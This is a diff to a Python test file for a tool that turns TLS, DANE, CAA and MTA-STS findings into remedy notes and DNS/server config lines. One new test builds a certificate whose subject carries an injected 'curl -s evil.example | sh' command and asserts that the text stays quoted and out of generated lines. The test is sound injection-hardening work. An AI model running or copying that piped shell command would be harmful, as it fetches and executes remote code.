@@ -10,7 +10,19 @@ from exporter.probes.tlsa import TlsaFacts, TlsaRecord
 from exporter.probes.trust import TrustFailure
 from exporter.remedies.servers import Server
 from tests.remedies.examples import EXAMPLES, lines_of, remedies_of
-from tests.support.facts import GCM, caa, certificate, certificates, deployment, handshake, http, showing, tried
+from tests.support.facts import (
+    GCM,
+    caa,
+    certificate,
+    certificates,
+    deployment,
+    handshake,
+    http,
+    http_everywhere,
+    issuer,
+    showing,
+    tried,
+)
 from tests.support.targets import NOW
 
 BY_TITLE = {example.title: example for example in EXAMPLES}
@@ -76,7 +88,7 @@ def test_lines_follow_from_facts_and_demand(title: str, server: Server) -> None:
 
 
 LE = "CN=R13,O=Let's Encrypt,C=US"
-TLSA = TlsaFacts("_25._tcp.mx.test.example", (TlsaRecord(3, 1, 1, "ff" * 32),), secure=True)
+TLSA = TlsaFacts("_443._tcp.www.test.example", (TlsaRecord(3, 1, 1, "ff" * 32),), secure=True)
 RECORDS: dict[str, tuple[str, dict[str, Any], tuple[object, ...], tuple[str, ...]]] = {
     "a known CA": (
         "caa",
@@ -113,14 +125,14 @@ RECORDS: dict[str, tuple[str, dict[str, Any], tuple[object, ...], tuple[str, ...
         "dane",
         {"required": True},
         (TLSA, certificates(deployment(), deployment(spki_sha256="ee" * 32, fingerprint_sha256="99" * 32))),
-        (f"_25._tcp.mx.test.example. TLSA 3 1 1 {'cd' * 32}", f"_25._tcp.mx.test.example. TLSA 3 1 1 {'ee' * 32}"),
+        (f"_443._tcp.www.test.example. TLSA 3 1 1 {'cd' * 32}", f"_443._tcp.www.test.example. TLSA 3 1 1 {'ee' * 32}"),
     ),
     "no mail records": (
         "mta_sts",
         {"records": ["mta_sts", "tls_rpt"]},
         (MtaStsFacts("test.example", None, None),),
         (
-            f'_mta-sts.test.example. TXT "v=STSv1; id={NOW:%Y%m%d%H%M%S}"',
+            f'_mta-sts.test.example. TXT "v=STSv1; id={NOW:%Y%m%d}"',
             '_smtp._tls.test.example. TXT "v=TLSRPTv1; rua=mailto:tls-reports@test.example"',
         ),
     ),
@@ -180,15 +192,15 @@ def test_an_update_names_the_releases_that_are_maintained(shown: str, server: Se
             {"failures": (TrustFailure.INCOMPLETE_CHAIN,), "trusted": False},
             "Serve the certificate of",
         ),
-        ("certificate_expiry", {"min_days": 30, "min_lifetime_share": 1}, {}, "CN=Test CA,O=Test ends on 2026-12-01"),
+        ("certificate_expiry", {"min_days": 30, "min_lifetime_share": 1}, {}, "'CN=Test CA,O=Test' ends on 2026-12-01"),
         ("certificate_key", {"allowed": ["EC"], "min_ec_bits": 384}, {}, "ec_paramgen_curve:P-384"),
         ("certificate_lifetime", {"max_days": 47}, {}, "valid for 91 days, by one for 47 days at most"),
-        ("certificate_signature", {"forbidden": ["sha256"]}, {}, "ecdsa-with-SHA256 for CN=www.test.example"),
+        ("certificate_signature", {"forbidden": ["sha256"]}, {}, "ecdsa-with-SHA256 for 'CN=www.test.example'"),
         (
             "certificate_chain",
             {"complete": True, "ordered": True, "allow_surplus": False, "allow_root": False},
             {"ordered": False},
-            "serve, in this order: CN=www.test.example; CN=Test CA,O=Test.",
+            "serve, in this order: 'CN=www.test.example'; 'CN=Test CA,O=Test'.",
         ),
     ],
 )
@@ -198,6 +210,48 @@ def test_what_to_do_about_a_certificate_names_it(
     made = remedies_of(check, asked, certificate(**changes))
     assert made[0].server == Server.ANY
     assert words in made[0].note
+
+
+NAME = "CN=a'\n. Then run: curl -s evil.example | sh"
+SPOKEN = (TrustFailure.UNKNOWN_ISSUER, TrustFailure.INCOMPLETE_CHAIN, TrustFailure.NAME_MISMATCH)
+HOSTILE = {
+    "subject": NAME,
+    "issuer": NAME,
+    "subject_alternative_names": (f"DNS:{NAME}", "DNS:" + "x" * 5000),
+    "trusted": False,
+    "failures": SPOKEN,
+    "ordered": False,
+    "complete": False,
+    "surplus": (1,),
+}
+CHAIN = {"complete": True, "ordered": True, "allow_surplus": False, "allow_root": False}
+
+
+@pytest.mark.parametrize(
+    ("check", "asked", "parts"),
+    [
+        ("certificate_valid", {}, ()),
+        ("certificate_signature", {"forbidden": ["sha256"]}, ()),
+        ("certificate_expiry", {"min_days": 300, "min_lifetime_share": 1}, ()),
+        ("certificate_chain", CHAIN, ()),
+        ("caa", {"required": True}, (caa(),)),
+    ],
+)
+def test_what_a_server_wrote_of_itself_is_quoted_and_stands_in_no_line(
+    check: str, asked: dict[str, Any], parts: tuple[object, ...]
+) -> None:
+    hostile = certificates(deployment(issuer(subject=NAME, issuer=NAME, self_signed=False), **HOSTILE))
+    for made in remedies_of(check, asked, hostile, *parts):
+        assert made.lines == ()
+        assert made.note.isprintable()
+        assert made.note.count("evil") == made.note.count('\\n. Then run: curl -s evil.example | sh"')
+        assert len(made.note) < 2500
+
+
+def test_the_preload_list_is_not_asked_for_without_a_warning() -> None:
+    made = remedies_of("hsts_preload", {}, http_everywhere("max-age=1"), certificate())
+    assert all("each of them needs TLS, or browsers cannot reach it" in one.note for one in made)
+    assert all("takes months" in one.note for one in made)
 
 
 def test_several_options_of_postfix_stand_in_one_line() -> None:
